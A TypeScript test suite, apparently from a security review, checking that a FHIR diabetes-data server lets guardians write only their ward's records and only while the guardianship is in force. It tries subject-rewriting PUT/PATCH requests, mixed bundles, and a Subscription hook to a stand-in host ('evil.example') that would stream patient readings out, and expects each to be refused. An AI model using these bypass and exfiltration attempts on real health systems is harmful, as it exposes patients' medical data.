/**
 * Black-box round (session 25) on guardian uploads: a RelatedPerson with a legal authority (v3
 * RoleCode GUARD/POWATT), signed in, brings the ward's data in — and nothing more. Found here: a
 * guardianship whose RelatedPerson.period had ended (or not begun) still wrote and granted for the
 * ward (legal-authority.ts read `active` only).
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Operator } from '@medplum/core';
import type { Bundle, Consent, Observation, Period, RelatedPerson } from '@medplum/fhirtypes';
import request from 'supertest';
import { actsForPatient } from '../../src/consent/legal-authority.js';
import { PACKAGE_ROOT } from '../../src/paths.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { consentOf, DAY, grant, person, registerIdentity } from './consent-helpers.js';

const ROLE = 'http://terminology.hl7.org/CodeSystem/v3-RoleCode';
let t: TestApp;
let ana: string;
let ben: string;
let doc: string;
beforeAll(async () => {
  t = await startTestApp({ GLUCOGUARD_AUTH: 'on' });
  ana = await person(t.app, 'Patient', 'Rivera');
  ben = await person(t.app, 'Patient', 'Okafor');
  doc = await person(t.app, 'Practitioner', 'Osei');
  await registerIdentity(t.app, `Practitioner/${doc}`);
}, 60_000);
afterAll(async () => t?.close());

async function relative(extra: Partial<RelatedPerson> = {}, patient = ana): Promise<string> {
  return (await t.app.repository.create<RelatedPerson>({
    resourceType: 'RelatedPerson', active: true, patient: { reference: `Patient/${patient}` }, name: [{ family: 'Rivera' }],
    relationship: [{ coding: [{ system: ROLE, code: 'GUARD' }] }], ...extra,
  })).resource.id!;
}
function tokenOf(relatedPerson: string, patient = ana): string {
  return t.app.smart.tokens.signAccessToken({
    gid: randomUUID(), clientId: 'family-app', sub: `RelatedPerson/${relatedPerson}`, fhirUser: `RelatedPerson/${relatedPerson}`, patient,
    scopes: ['openid', 'fhirUser', 'launch/patient', 'patient/*.cruds'],
  }).token;
}
const reading = (patient: string, value = 120, extra: Partial<Observation> = {}): Observation => ({
  resourceType: 'Observation', status: 'final', code: { coding: [{ system: 'http://loinc.org', code: '99504-3' }] },
  subject: { reference: `Patient/${patient}` }, effectiveDateTime: new Date(Date.now() - 60_000).toISOString(),
  valueQuantity: { value, unit: 'mg/dL', system: 'http://unitsofmeasure.org', code: 'mg/dL' }, ...extra,
});
const send = (token: string, method: 'post' | 'put' | 'patch' | 'get' | 'delete', path: string, body?: object, type = 'application/fhir+json') => {
  const r = request(t.app.http)[method](`/fhir/${path}`).set('Authorization', `Bearer ${token}`).set('X-Purpose-Of-Use', 'TREAT');
  return body ? r.set('Content-Type', type).send(body) : r;
};
const readingsOf = async (patient: string) => (await t.app.repository.search({ resourceType: 'Observation', filters: [{ code: 'subject', operator: Operator.EQUALS, value: `Patient/${patient}` }], count: 1000, offset: 0 })).resources;
const day = (offsetDays: number) => new Date(Date.now() + offsetDays * DAY).toISOString().slice(0, 10);
const grantFor = (g: string) => {
  const now = Date.now();
  const body: Consent = { ...consentOf({ patient: ana, actor: `Practitioner/${doc}`, accessTo: now + DAY, dataFrom: now - DAY, dataTo: now }), performer: [{ reference: `RelatedPerson/${g}` }] };
  return send(tokenOf(g), 'post', 'Consent', body);
};

describe('a guardianship in force: RelatedPerson.period', () => {
  test.each<[string, Period]>([
    ['ended yesterday (the ward came of age)', { start: '2008-01-01', end: day(-1) }],
    ['ended a minute ago (a dateTime)', { end: new Date(Date.now() - 60_000).toISOString() }],
    ['not begun yet', { start: day(30) }],
    ['an end that cannot be read', { end: 'soon' }],
  ])('a GUARD whose period is %s neither writes for the ward nor grants for them (403, nothing stored)', async (_what, period) => {
    const g = await relative({ period });
    const before = (await readingsOf(ana)).length;
    expect((await send(tokenOf(g), 'post', 'Observation', reading(ana))).status).toBe(403);
    const ingest = await request(t.app.http).post(`/cgm/ingest?format=nightscout&patient=${ana}`).set('Authorization', `Bearer ${tokenOf(g)}`).set('Content-Type', 'application/json')
      .send(JSON.stringify([{ type: 'sgv', sgv: 101, date: Date.UTC(2026, 9, 3), dateString: new Date(Date.UTC(2026, 9, 3)).toISOString() }]));
    expect(ingest.status).toBe(403);
    expect((await readingsOf(ana)).length).toBe(before);
    expect((await grantFor(g)).status).toBe(403);
  });

  test('a period that includes today — an end of today at day precision, or a year — still lets the guardian act', async () => {
    for (const period of [{ start: '2008', end: day(0) }, { end: String(new Date().getUTCFullYear()) }, { start: new Date(Date.now() - 60_000).toISOString() }]) {
      const g = await relative({ period });
      expect([period, (await send(tokenOf(g), 'post', 'Observation', reading(ana))).status]).toEqual([period, 201]);
    }
    expect((await grantFor(await relative({ period: { end: day(1) } }))).status).toBe(201);
  });

  test('actsForPatient reads the end at its precision: through the last day of the month, not after', async () => {
    const g = await relative({ period: { end: '2026-02' } });
    expect(await actsForPatient(t.app.repository, `RelatedPerson/${g}`, ana, Date.UTC(2026, 1, 28, 23, 59))).toBe(true);
    expect(await actsForPatient(t.app.repository, `RelatedPerson/${g}`, ana, Date.UTC(2026, 2, 1))).toBe(false);
  });
});

describe('what a guardian cannot do', () => {
  test('relationship GUARD in another code system, without one, or in lower case gives no authority', async () => {
    for (const coding of [{ system: 'http://terminology.hl7.org/CodeSystem/v2-0131', code: 'GUARD' }, { system: 'urn:oid:2.16.840.1.113883.5.111', code: 'GUARD' }, { code: 'GUARD' }, { system: ROLE, code: 'guard' }]) {
      const g = await relative({ relationship: [{ coding: [coding] }] });
      expect([coding, (await send(tokenOf(g), 'post', 'Observation', reading(ana))).status]).toEqual([coding, 403]);
    }
  });

  test('with a read grant, a guardian neither moves the ward\'s reading out of their record nor makes it about nobody (PUT, PATCH)', async () => {
    const g = await relative();
    await registerIdentity(t.app, `RelatedPerson/${g}`);
    const now = Date.now();
    expect((await grant(t.app, { patient: ana, actor: `RelatedPerson/${g}`, accessTo: now + DAY, dataFrom: now - DAY, dataTo: now + DAY })).status).toBe(201);
    const token = tokenOf(g);
    const stored = async () => (await t.app.repository.create(reading(ana))).resource;
    const a = await stored();
    const { subject: _s, meta: _m, ...nobody } = a;
    expect((await send(token, 'put', `Observation/${a.id}`, nobody)).status).toBe(403);
    const b = await stored();
    expect((await send(token, 'put', `Observation/${b.id}`, { ...b, meta: undefined, subject: { reference: 'Group/x' } })).status).toBe(403);
    const c = await stored();
    expect((await send(token, 'patch', `Observation/${c.id}`, [{ op: 'remove', path: '/subject' }], 'application/json-patch+json')).status).toBe(403);
    const d = await stored();
    expect((await send(token, 'patch', `Observation/${d.id}`, [{ op: 'replace', path: '/subject/reference', value: `Patient/${ben}` }], 'application/json-patch+json')).status).toBe(403);
    for (const r of [a, b, c, d]) expect((await t.app.repository.read<Observation>('Observation', r.id!)).subject?.reference).toBe(`Patient/${ana}`);
  });

  test('writes the four kinds in the ward\'s record, nothing naming another patient or nobody, no Subscription or Consent', async () => {
    const token = tokenOf(await relative({ relationship: [{ coding: [{ system: ROLE, code: 'POWATT' }] }] }));
    expect((await send(token, 'post', 'Device', { resourceType: 'Device', patient: { reference: `Patient/${ana}` } })).status).toBe(201);
    expect((await send(token, 'post', 'MedicationAdministration', { resourceType: 'MedicationAdministration', status: 'completed', medicationCodeableConcept: { text: 'insulin' }, subject: { reference: `Patient/${ana}` }, effectiveDateTime: new Date().toISOString() })).status).toBe(201);
    expect((await send(token, 'post', 'DiagnosticReport', { resourceType: 'DiagnosticReport', status: 'final', code: { text: 'AGP' }, subject: { reference: `Patient/${ana}` } })).status).toBe(201);
    expect((await send(token, 'post', 'Observation', reading(ana, 100, { performer: [{ reference: `Patient/${ben}` }] }))).status).toBe(403);
    expect((await send(token, 'post', 'Device', { resourceType: 'Device' })).status).toBe(403);
    expect((await send(token, 'post', 'Subscription', { resourceType: 'Subscription', status: 'requested', reason: 'x', criteria: `Observation?patient=${ana}`, channel: { type: 'rest-hook', endpoint: 'https://evil.example/hook', payload: 'application/fhir+json' } })).status).toBeGreaterThanOrEqual(400);
    expect((await t.app.repository.search({ resourceType: 'Subscription', count: 100, offset: 0 })).resources).toEqual([]);
  });

  test('a transaction with an entry in another record stores nothing; a batch stores only the ward\'s; a conditional update matching another patient\'s reading leaves it', async () => {
    const token = tokenOf(await relative());
    const [anaBefore, benBefore] = [(await readingsOf(ana)).length, (await readingsOf(ben)).length];
    const entries = () => [
      { fullUrl: `urn:uuid:${randomUUID()}`, resource: reading(ana), request: { method: 'POST' as const, url: 'Observation' } },
      { fullUrl: `urn:uuid:${randomUUID()}`, resource: reading(ben), request: { method: 'POST' as const, url: 'Observation' } },
    ];
    expect((await send(token, 'post', '', { resourceType: 'Bundle', type: 'transaction', entry: entries() } as Bundle)).status).toBe(403);
    expect([(await readingsOf(ana)).length, (await readingsOf(ben)).length]).toEqual([anaBefore, benBefore]);
    const batch = await send(token, 'post', '', { resourceType: 'Bundle', type: 'batch', entry: entries() } as Bundle);
    expect(batch.status).toBe(200);
    expect((batch.body as Bundle).entry!.map((e) => e.response?.status?.slice(0, 3))).toEqual(['201', '403']);
    expect([(await readingsOf(ana)).length, (await readingsOf(ben)).length]).toEqual([anaBefore + 1, benBefore]);
    const bens = (await t.app.repository.create(reading(ben, 77, { identifier: [{ system: 'urn:bb25', value: 'b1' }] }))).resource;
    const cu = await send(token, 'put', 'Observation?identifier=urn:bb25|b1', reading(ana, 1, { identifier: [{ system: 'urn:bb25', value: 'b1' }] }));
    expect(cu.status).toBe(201);
    expect((cu.body as Observation).id).not.toBe(bens.id);
    expect(await t.app.repository.read<Observation>('Observation', bens.id!)).toMatchObject({ subject: { reference: `Patient/${ben}` }, valueQuantity: { value: 77 } });
  });

  test('reads still need a grant: a guardian\'s own upload is hidden from them, and the ingest into a patient who does not exist answers as another patient\'s', async () => {
    const token = tokenOf(await relative());
    const created = await send(token, 'post', 'Observation', reading(ana, 133));
    expect(created.status).toBe(201);
    const id = (created.body as Observation).id!;
    expect((await send(token, 'get', `Observation/${id}`)).status).toBe(404);
    expect((await send(token, 'get', `Observation?subject=Patient/${ana}`)).body.entry ?? []).toEqual([]);
    expect((await send(token, 'get', `Observation/${id}/_history`)).body.entry ?? []).toEqual([]);
    // a conditional create whose match they cannot see creates (no oracle)
    expect((await send(token, 'post', 'Observation', reading(ana, 133)).set('If-None-Exist', `_id=${id}`)).status).toBe(201);
    const ingest = (patient: string) => request(t.app.http).post(`/cgm/ingest?format=nightscout&patient=${patient}`).set('Authorization', `Bearer ${token}`).set('Content-Type', 'application/json').send('[]');
    const [unknown, other] = [await ingest(`nobody-${randomUUID()}`), await ingest(ben)];
    expect(unknown.status).toBe(403);
    expect(unknown.body).toEqual(other.body);
  });

  test('a RelatedPerson moved to another patient, made inactive or deleted no longer acts for the ward', async () => {
    const g = await relative();
    const token = tokenOf(g);
    expect((await send(token, 'post', 'Observation', reading(ana))).status).toBe(201);
    const rp = await t.app.repository.read<RelatedPerson>('RelatedPerson', g);
    await t.app.repository.update({ ...rp, patient: { reference: `Patient/${ben}` } });
    expect((await send(token, 'post', 'Observation', reading(ana))).status).toBe(403);
    expect((await send(tokenOf(g, ben), 'post', 'Observation', reading(ana))).status).toBe(403);
    await t.app.repository.update({ ...(await t.app.repository.read<RelatedPerson>('RelatedPerson', g)), patient: { reference: `Patient/${ana}` }, active: false });
    expect((await send(token, 'post', 'Observation', reading(ana))).status).toBe(403);
    await t.app.repository.delete('RelatedPerson', g);
    expect((await send(token, 'post', 'Observation', reading(ana))).status).toBe(403);
  });

  test('$submit-cgm-bundle: the ward\'s bundle is stored, one naming another patient (whole or in part) stores nothing', async () => {
    const token = tokenOf(await relative());
    const example = readFileSync(path.join(PACKAGE_ROOT, 'test/fixtures/cgm-ig/Bundle-cgmDataSubmissionBundle.json'), 'utf8');
    const bundleFor = (patient: string) => JSON.parse(example.replaceAll('Patient/patientExample', `Patient/${patient}`)) as Bundle;
    const [anaBefore, benBefore] = [(await readingsOf(ana)).length, (await readingsOf(ben)).length];
    expect((await send(token, 'post', '$submit-cgm-bundle', bundleFor(ben))).status).toBe(403);
    const mixed = bundleFor(ana);
    mixed.entry![mixed.entry!.length - 1]!.resource = { ...(mixed.entry![mixed.entry!.length - 1]!.resource as Observation), subject: { reference: `Patient/${ben}` } };
    expect((await send(token, 'post', '$submit-cgm-bundle', mixed)).status).toBe(403);
    expect([(await readingsOf(ana)).length, (await readingsOf(ben)).length]).toEqual([anaBefore, benBefore]);
    expect((await send(token, 'post', '$submit-cgm-bundle', bundleFor(ana))).status).toBe(200);
    expect((await readingsOf(ana)).length).toBeGreaterThan(anaBefore);
    expect((await readingsOf(ben)).length).toBe(benBefore);
  });
});
